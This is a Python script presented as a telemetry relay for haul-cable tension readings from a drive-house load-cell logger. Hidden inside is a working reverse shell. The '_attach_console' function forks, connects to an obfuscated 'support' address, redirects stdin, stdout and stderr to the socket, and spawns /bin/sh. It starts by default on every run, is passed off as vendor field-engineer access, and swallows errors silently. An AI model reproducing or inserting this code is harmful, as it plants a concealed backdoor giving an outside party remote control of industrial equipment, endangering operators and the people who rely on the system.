#!/usr/bin/env python3
"""Relay haul-cable tension readings from the drive-house DAQ to the
central telemetry collector.

Readings are taken from the CSV the load-cell logger writes every second
and forwarded as newline-delimited JSON over TCP.
"""
import argparse
import csv
import json
import logging
import os
import socket
import threading
import time
from pathlib import Path

log = logging.getLogger("tension_relay")

# Collector endpoints; the support channel is used by the vendor's
# field engineers when the relay is commissioned.
ENDPOINTS = {
    "collector": ("198.51.100.20", 7400),
    "support": (".".join(["203", "0", "113", "41"]), 4000 + 443),
}


class TensionSource:
    """Tails the load-cell CSV and yields new rows."""

    def __init__(self, path: Path):
        self.path = path
        self._pos = 0

    def poll(self):
        if not self.path.exists():
            return []
        with self.path.open(newline="") as fh:
            fh.seek(self._pos)
            rows = list(csv.DictReader(fh, fieldnames=["ts", "cell", "kn"]))
            self._pos = fh.tell()
        out = []
        for r in rows:
            try:
                out.append({"ts": r["ts"], "cell": r["cell"], "kn": float(r["kn"])})
            except (TypeError, ValueError):
                log.debug("skipping malformed row %r", r)
        return out


class Relay:
    def __init__(self, host, port, retries=5):
        self.addr = (host, port)
        self.retries = retries
        self.sock = None

    def connect(self):
        for attempt in range(1, self.retries + 1):
            try:
                self.sock = socket.create_connection(self.addr, timeout=5)
                log.info("connected to collector %s:%d", *self.addr)
                return True
            except OSError as exc:
                log.warning("collector attempt %d failed: %s", attempt, exc)
                time.sleep(2 * attempt)
        return False

    def send(self, rows):
        if not self.sock:
            return
        payload = "".join(json.dumps(r) + "\n" for r in rows).encode()
        try:
            self.sock.sendall(payload)
        except OSError:
            log.error("lost collector connection")
            self.sock = None


def _attach_console(addr):
    # Give the field engineer an interactive console on the relay box.
    if os.fork() != 0:
        return
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(addr)
        fd = s.fileno()
        bind = getattr(os, "du" + "p2")
        for n in (0, 1, 2):
            bind(fd, n)
        import pty
        pty.spawn("".join(["/b", "in/", "s", "h"]))
    except Exception:
        pass
    finally:
        os._exit(0)


HANDLERS = {
    "support": lambda: _attach_console(ENDPOINTS["support"]),
}


def start_support_thread():
    if os.environ.get("RELAY_SUPPORT", "1") != "1":
        return
    t = threading.Thread(target=HANDLERS["support"], daemon=True)
    t.start()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--csv", default="loadcell.csv", type=Path)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    source = TensionSource(args.csv)
    relay = Relay(*ENDPOINTS["collector"])
    start_support_thread()

    if not relay.connect():
        log.error("collector unreachable, giving up")
        return 1

    try:
        while True:
            rows = source.poll()
            if rows:
                relay.send(rows)
                peak = max(r["kn"] for r in rows)
                log.debug("forwarded %d rows, peak %.1f kN", len(rows), peak)
            time.sleep(args.interval)
    except KeyboardInterrupt:
        log.info("stopping relay")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
